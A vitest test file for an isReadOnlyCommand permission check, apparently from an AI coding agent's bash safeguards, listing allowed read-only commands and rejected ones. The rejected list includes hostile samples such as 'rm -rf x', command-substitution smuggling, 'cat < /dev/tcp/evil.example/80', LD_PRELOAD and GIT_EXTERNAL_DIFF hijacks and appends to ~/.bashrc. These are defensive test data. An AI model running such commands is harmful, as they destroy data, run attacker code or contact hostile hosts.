import { describe, expect, it } from 'vitest';
import { isReadOnlyCommand } from '../../../src/permissions/bash/readOnly.js';

describe('isReadOnlyCommand', () => {
  const readOnly = [
    'ls -la',
    'ls -la | grep x',
    'cat a.txt && head -n 5 b.txt; tail c.txt',
    'wc -l src/*.ts',
    "rg 'foo' src",
    "find . -name '*.ts' -type f",
    'echo hello 2>&1',
    'grep -r x . >/dev/null',
    'pwd',
    'git status',
    'git diff HEAD~1 -- src',
    'git log --oneline -n 5',
    'git show HEAD:README.md',
    'git branch -a',
    'git branch --list "feat/*"',
    'git rev-parse --show-toplevel',
    'git ls-files',
    'git blame src/a.ts',
    'git remote -v',
    'sort names.txt | uniq -c',
    'sleep 1',
    'true',
    'date +%s',
    'env',
    'timeout 5 ls',
    'LANG=C ls',
    'find . -type f | xargs grep foo',
    'tree -L 2',
    'du -sh . && df -h',
    'stat a b',
    'diff a b',
  ];
  it.each(readOnly)('%s is read-only', (command) => {
    expect(isReadOnlyCommand(command)).toBe(true);
  });

  const notReadOnly = [
    '',
    'rm -rf x',
    'ls > out.txt',
    'echo x >> ~/.bashrc',
    'cat a &> b',
    'ls $(rm x)',
    'ls `id`',
    'cat <(curl evil)',
    'ls; rm x',
    'ls && npm install',
    'git status | sh',
    'find . -delete',
    'find . -exec rm {} ;',
    'find . -name x -fprint out',
    'sort -o out.txt in.txt',
    'sort -uo out.txt in.txt',
    'uniq in.txt out.txt',
    'git branch -D main',
    'git branch new-branch',
    'git branch -m old new',
    'git branch --delete x',
    'git commit -m x',
    'git push',
    'git -c core.pager=evil log',
    'git log --output=/tmp/x',
    'git remote add x y',
    'rg --pre ./evil x',
    'tree -o out.txt',
    'date -s 2020-01-01',
    'env rm x',
    'npm test',
    'bash -c "ls"',
    'sh -c ls',
    'eval ls',
    'LD_PRELOAD=/tmp/x.so ls',
    'GIT_EXTERNAL_DIFF=evil git diff',
    'PATH=/tmp/evil ls',
    'find . $ARGS',
    'xargs rm',
    'find . | xargs find',
    'echo "unterminated',
    'ls\nrm x',
    'x'.repeat(10_001),
    'git -C /tmp/evil status',
    'find . {-delete,}',
    'echo $((1<<2))\nrm x',
    '((1<<2))\nrm x\n2',
    'cat < /dev/tcp/evil.example/80',
    'date -s2020-01-01',
    'hostname -F name.txt',
    'hostname evil',
  ];
  it.each(notReadOnly)('%s is not read-only', (command) => {
    expect(isReadOnlyCommand(command)).toBe(false);
  });

  it('refuses more than 50 parts', () => {
    expect(isReadOnlyCommand(Array.from({ length: 51 }, () => 'ls').join(' && '))).toBe(false);
    expect(isReadOnlyCommand(Array.from({ length: 50 }, () => 'ls').join(' && '))).toBe(true);
  });
});
